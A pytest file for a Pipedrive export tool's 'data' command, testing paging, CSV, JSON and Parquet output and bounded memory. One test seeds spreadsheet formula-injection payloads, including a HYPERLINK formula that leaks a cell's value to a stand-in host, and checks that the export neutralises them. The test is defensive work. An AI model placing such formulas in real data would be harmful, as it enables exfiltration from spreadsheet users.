"""``data``: pages for a person, and whole tables in bounded memory."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import duckdb
import httpx
import pytest

from pipedrive_orchestration.demo import DemoServer
from pipedrive_orchestration_tests.chaos.sizes import in_full
from pipedrive_orchestration_tests.cli.conftest import COMMAND, PERSONS, Project

BODY = {**PERSONS, "properties": ["id", "name", "emails", "label_ids", "update_time"]}


@pytest.fixture
def imported(project: Project, demo: DemoServer) -> Project:
    """A project whose one source has been imported."""
    project.write("all_persons", BODY)
    project.connect_to(demo)
    project.bring("all_persons", demo)
    return project


def test_pages_follow_each_other_in_the_order_of_ids(imported: Project) -> None:
    ids = sorted(imported.current("all_persons"))
    found: list[int] = []
    pages = -(-len(ids) // 7)
    for page_no in range(1, pages + 1):
        arguments = ("--page-no", str(page_no), "--page-size", "7", "--json")
        told = json.loads(imported.run("data", "all_persons", *arguments).out)
        assert (told["total_count"], told["page_no"], told["page_size"]) == (len(ids), page_no, 7)
        found += [row["_id"] for row in told["rows"]]
    assert found == ids
    assert told["labels"]["name"] == "Name"
    past = imported.run("data", "all_persons", "--page-no", "5000", "--json")
    assert (past.code, json.loads(past.out)["rows"]) == (0, [])


def test_a_table_has_labels_and_says_where_it_is(imported: Project) -> None:
    ended = imported.run("data", "all_persons", "--page-size", "5", "--page-no", "2")
    assert ended.code == 0
    assert "┃ _id" in ended.out
    assert " Name " in ended.out
    assert f"all_persons: rows 6 to 10 of {len(imported.current('all_persons'))}" in ended.out


def test_options_show_their_labels(imported: Project) -> None:
    with imported.opened() as connection:
        hot = connection.execute(
            "SELECT count(*) FROM pipedrive_labeled.all_persons WHERE list_contains(\"Label\", 'Hot lead')"
        ).fetchone()
    assert hot is not None
    ended = imported.run("data", "all_persons", "--page-size", "200")
    assert ended.out.count("Hot lead") == hot[0] > 0


def test_csv_holds_every_current_row_and_nested_values_as_json(imported: Project) -> None:
    ended = imported.run("data", "all_persons", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(ended.out)))
    assert sorted(int(row["_id"]) for row in rows) == sorted(imported.current("all_persons"))
    assert list(rows[0])[:5] == ["_id", "id", "name", "emails", "label_ids"]
    assert "_is_current" not in rows[0]
    emails = [json.loads(row["emails"]) for row in rows if row["emails"]]
    assert all("@" in one[0]["value"] for one in emails if one)
    assert any(emails)


def test_a_spreadsheet_sees_texts_and_times_and_no_formulas(
    project: Project, fresh_demo: Callable[..., DemoServer]
) -> None:
    """The names are those that make a formula of a cell in LibreOffice, Excel or Google Sheets."""
    names = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\t=1", "＝1+1", "Zoë = ok", "O'Neil"]
    server = fresh_demo()
    with httpx.Client(base_url=server.url, headers={"x-api-token": server.token}) as client:
        for name in names:
            client.post("/api/v2/persons", json={"name": name}).raise_for_status()
    project.write("all_persons", BODY)
    project.connect_to(server)
    project.bring("all_persons", server)
    output = project.folder / "persons.csv"
    ended = project.run(
        "data", "all_persons", "--format", "csv", "--for-spreadsheets", "--output", str(output)
    )
    assert ended.code == 0
    content = output.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert {row["name"] for row in rows} >= {"Zoë = ok", "O'Neil", *(f"'{name}" for name in names[:6])}
    times = [row["update_time"] for row in rows if row["update_time"]]
    assert len(times) >= len(names)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", time) for time in times)
    printed = project.run("data", "all_persons", "--format", "csv", "--for-spreadsheets")
    assert sorted(printed.out.encode().splitlines()) == sorted(content.splitlines())
    exact = list(csv.DictReader(io.StringIO(project.run("data", "all_persons", "--format", "csv").out)))
    assert {row["name"] for row in exact} >= set(names)


@pytest.mark.parametrize("format_", ["json", "parquet", "table"])
def test_only_csv_is_for_spreadsheets(imported: Project, format_: str) -> None:
    ended = imported.run("data", "all_persons", "--format", format_, "--for-spreadsheets")
    assert ended.code == 2
    assert "--format csv" in ended.err


def test_json_is_one_array(imported: Project) -> None:
    rows = json.loads(imported.run("data", "all_persons", "--format", "json").out)
    assert sorted(row["_id"] for row in rows) == sorted(imported.current("all_persons"))
    page = json.loads(imported.run("data", "all_persons", "--format", "json", "--page-size", "3").out)
    assert page == sorted(rows, key=lambda row: row["_id"])[:3]


def test_parquet_keeps_the_types(imported: Project, tmp_path: Path) -> None:
    file = tmp_path / "persons.parquet"
    ended = imported.run("data", "all_persons", "--format", "parquet", "--output", str(file))
    assert (ended.code, ended.out) == (0, "")
    with duckdb.connect() as connection:
        found = connection.execute(f"SELECT _id, typeof(emails) FROM '{file}'").fetchall()
    assert sorted(row[0] for row in found) == sorted(imported.current("all_persons"))
    assert found[0][1].startswith("STRUCT(")
    assert [path.name for path in tmp_path.glob(".pipedrive-export-*")] == []


def test_a_file_is_replaced_whole_or_not_at_all(imported: Project, tmp_path: Path) -> None:
    missing = imported.run("data", "all_persons", "--format", "csv", "-o", str(tmp_path / "no" / "rows.csv"))
    assert missing.code == 1
    assert "rows.csv" in missing.err or str(tmp_path / "no") in missing.err
    assert imported.run("data", "all_persons", "--output", "rows.csv").code == 2


def test_without_a_database_it_says_to_import(project: Project) -> None:
    project.write("all_persons", BODY)
    ended = project.run("data", "all_persons")
    assert (ended.code, ended.out) == (1, "")
    assert "run an import first" in ended.err


@pytest.mark.parametrize("written", ["table", "csv"])
def test_a_source_without_a_table_is_said(imported: Project, written: str) -> None:
    imported.write("others", BODY)
    ended = imported.run("data", "others", "--format", written)
    assert (ended.code, ended.out) == (1, "")
    assert "run `pipedrive-orchestration import others`" in ended.err
    assert imported.run("data", "other").code == 2


ROWS = 50_000


@in_full
def test_a_large_table_goes_out_in_bounded_memory(imported: Project) -> None:
    with duckdb.connect(str(imported.database)) as connection:
        connection.execute(
            "INSERT INTO pipedrive.all_persons "
            "SELECT p.* REPLACE (r.n AS _id, repeat(md5(r.n::VARCHAR), 100) AS name) "
            "FROM (SELECT * FROM pipedrive.all_persons WHERE _is_current LIMIT 1) AS p, "
            f"range(10_000_000, 10_000_000 + {ROWS}) AS r(n)"
        )
    counted = (
        "import resource, subprocess, sys\n"
        "subprocess.run(sys.argv[1:], check=True)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)"
    )
    with (imported.folder / "rows.csv").open("wb") as rows:
        ended = subprocess.run(
            [sys.executable, "-c", counted, COMMAND, "data", "all_persons", "--format", "csv"],
            stdout=rows, stderr=subprocess.PIPE, text=True, cwd=imported.folder, check=True, timeout=60,
        )  # fmt: skip
    written = (imported.folder / "rows.csv").stat().st_size
    assert written > ROWS * 32 * 100
    peak = int(ended.stderr.split()[-1]) * (1 if sys.platform == "darwin" else 1024)
    assert peak < 450 * 2**20
